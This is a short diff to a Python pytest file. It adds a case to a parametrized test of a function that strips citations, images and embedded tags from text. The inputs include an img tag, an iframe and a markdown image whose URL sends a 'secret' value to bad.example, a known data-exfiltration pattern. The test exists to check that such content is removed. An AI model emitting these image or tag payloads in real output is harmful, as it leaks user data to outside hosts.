@@ -43,6 +43,7 @@ def written(text: str, *cuts: int) -> tuple[str, list[int], Removed]:
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
+        ("So: <img src='https://bad.example/x'><iframe src='x'></iframe> it is", "So:     it is"),
         ("It is so [1].", "It is so."),
         ("It is so [7], or not [1, 2].", "It is so, or not."),
         ("![a cat](http://bad.example/c.png?d=secret) sat", "a cat sat"),
